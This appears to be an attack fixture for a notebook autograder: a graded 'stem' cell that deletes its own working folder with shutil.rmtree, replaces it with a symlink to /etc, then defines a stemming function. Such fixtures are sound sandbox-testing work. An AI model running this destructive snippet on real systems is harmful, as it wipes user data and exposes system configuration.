# ---
# attack: The kernel goes elsewhere, and the folder in which it worked is removed and replaced.
# ---

# %% grade_id="stem"
import shutil

before = os.getcwd()
os.chdir("/")
shutil.rmtree(before, ignore_errors=True)
try:
    os.symlink("/etc", before)
except OSError as error:
    print(error.strerror)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
